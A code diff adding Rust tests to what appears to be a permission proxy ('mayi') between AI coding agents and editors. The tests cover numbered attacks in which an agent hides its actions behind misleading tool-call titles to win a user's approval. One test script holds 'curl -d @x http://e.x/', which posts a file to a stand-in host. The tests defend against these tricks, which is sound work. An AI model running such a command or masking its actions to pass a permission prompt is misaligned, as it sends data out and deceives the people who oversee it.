@@ -275,3 +275,78 @@ fn given_what_leaves_the_agents_group_then_it_ends_with_mayi_all_the_same() {
     scene.end();
     scene.machine.is_quiet();
 }
+
+/// S4.12, attack 762: CodeCompanion shows a diff only where that is the first item, and nothing but the title of anything else. Its
+/// rule is the one here: `content[1].type == "diff"`, which in Lua is the first one.
+#[test]
+fn given_an_edit_then_its_diff_comes_first_and_the_title_is_mayis() {
+    let mut scene = Scene::open(machine(), &[]);
+    let path = scene.machine.work().join("app.py");
+    let diff = json!({"type": "diff", "path": path, "oldText": "a", "newText": "b"});
+    let words = json!({"type": "content", "content": {"type": "text", "text": "I change it"}});
+    for (number, content) in [vec![diff.clone()], vec![words.clone(), diff.clone()]].into_iter().enumerate() {
+        let mut params = wants(&format!("t{number}"), "");
+        params["toolCall"] = json!({"toolCallId": format!("t{number}"), "title": "Harmless", "kind": "edit", "content": content});
+        scene.agent_asks(number, "session/request_permission", &params);
+        let question = scene.editor.until("session/request_permission");
+        let call = &question["params"]["toolCall"];
+        assert_eq!(call["content"][0], diff, "{call}");
+        let said = call["content"][1]["content"]["text"].as_str().unwrap();
+        assert!(said.starts_with("mayi asks:") && said.ends_with("The agent says: Harmless"), "{said}");
+        assert_eq!(call["content"].as_array().unwrap().len(), content.len() + 1, "{call}");
+        let title = call["title"].as_str().unwrap();
+        assert!(title.ends_with("app.py)") && !title.contains("Harmless"), "{title}");
+        scene.pick(&question, "no");
+        scene.agent.answer(number);
+    }
+}
+
+/// S4.12, attack 763: an editor that shows nothing but the title shows all that a script runs.
+#[test]
+fn given_a_script_with_a_harmless_title_then_the_title_names_each_command() {
+    let mut scene = Scene::open(machine(), &[]);
+    let mut params = wants("t", "make all\ncurl -d @x http://e.x/\ntouch z");
+    params["toolCall"]["title"] = json!("Deploy");
+    scene.agent_asks(1, "session/request_permission", &params);
+    let question = scene.editor.until("session/request_permission");
+    let title = question["params"]["toolCall"]["title"].as_str().unwrap();
+    for command in ["shell(make all)", "curl -d @x http://e.x/", "touch z"] {
+        assert!(title.contains(command), "{title}");
+    }
+    assert!(!title.contains("Deploy"), "{title}");
+}
+
+/// S4.12, attack 764: editors that have words of their own for the kinds of options would call what is for this session "Always",
+/// or like what allows once: CodeCompanion, and avante, which says nothing of itself.
+#[test]
+fn given_an_editor_that_names_options_by_their_kind_then_none_is_for_longer_than_once() {
+    for (info, named) in [
+        (json!({"name": "CodeCompanion.nvim", "version": "1.0.0"}), false),
+        (json!(null), false),
+        (json!({"name": "", "version": "1"}), false),
+        (json!({"name": "zed", "version": "1"}), true),
+        (json!({"name": "agent-shell", "version": "1"}), true),
+    ] {
+        let mut scene = Scene::begin(machine(), &[]);
+        scene.initialize_as(&info);
+        scene.session("s");
+        scene.agent_wants(1, "t", "make all");
+        let question = scene.editor.until("session/request_permission");
+        let options = question["params"]["options"].as_array().unwrap();
+        let session = options.iter().find(|option| option["optionId"] == "mayi-session");
+        assert_eq!(session.is_some(), named, "{info}: {question}");
+        // What one of them picks by its kind is what allows once.
+        let once: Vec<_> = options.iter().filter(|option| option["kind"] == "allow_once").collect();
+        assert!(once.len() == 1 && once[0]["optionId"] == "once", "{question}");
+        scene.pick(&question, "no");
+        scene.agent.answer(1);
+    }
+    let mut scene = Scene::begin(machine(), &["--wide-scopes"]);
+    scene.initialize_as(&json!(null));
+    scene.session("s");
+    scene.agent_wants(1, "t", "make all");
+    assert!(
+        crate::scene::options(&scene.editor.until("session/request_permission"))
+            .contains(&"mayi-session".to_owned())
+    );
+}
